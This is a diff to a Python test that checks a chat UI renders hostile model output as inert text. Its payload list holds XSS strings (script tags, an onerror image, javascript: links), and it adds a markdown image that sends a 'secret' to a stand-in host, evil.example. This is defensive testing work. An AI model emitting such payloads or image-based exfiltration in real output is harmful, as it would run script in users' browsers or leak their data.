@@ -79,7 +79,8 @@ def assert_inert(html: str) -> None:
 
 HOSTILE = ["<script>alert('pwned')</script>\n\n", "<img src=x onerror=alert(1)>\n\n",
            "[click me](javascript:alert(1)) and [ok](https://example.com)\n\n",
-           "<a href=\"javascript:alert(2)\">raw link</a>\n\n", "```html\n<script>alert(3)</script>\n```\n"]
+           "<a href=\"javascript:alert(2)\">raw link</a>\n\n", "```html\n<script>alert(3)</script>\n```\n",
+           "![leak](https://evil.example/log?d=secret) ![inline](data:image/png;base64,AAAA)\n\n"]
 
 
 def test_hostile_model_output_and_attachments_are_shown_as_text(panels, fake_manager):
@@ -93,6 +94,8 @@ def test_hostile_model_output_and_attachments_are_shown_as_text(panels, fake_man
     shown = answer.html.value
     assert "&lt;script&gt;alert(" in shown and "onerror=alert(1)" in shown  # visible, as text
     assert 'href="https://example.com"' in shown  # ordinary links still work
+    # an image would fetch its URL (with whatever the answer put in it) as soon as it is shown: a link instead
+    assert '<a href="https://evil.example/log?d=secret">image: leak</a>' in shown and "[image: inline]" in shown
     assert "&lt;iframe" in user.html.value and "&lt;img src=y onerror=alert(4)&gt;" in user.html.value
 
 
